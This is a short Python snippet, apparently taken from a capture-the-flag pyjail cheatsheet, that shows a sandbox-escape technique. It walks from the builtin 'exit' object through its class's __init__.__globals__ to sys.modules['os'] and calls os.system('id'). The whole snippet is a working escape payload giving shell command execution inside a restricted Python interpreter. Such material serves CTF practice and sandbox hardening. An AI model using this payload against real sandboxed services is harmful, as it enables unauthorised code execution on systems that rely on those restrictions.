# Source: github.com/Shirajuki/shirajuki.github.io src/routes/blog/pyjail-cheatsheet.md
# Family: exit-quit
# What: exit.__class__.__init__.__globals__ (_sitebuiltins.Quitter) holds sys, whose modules hold os
q = exit.__class__
q.__init__.__globals__["sys"].modules["os"].system("id")
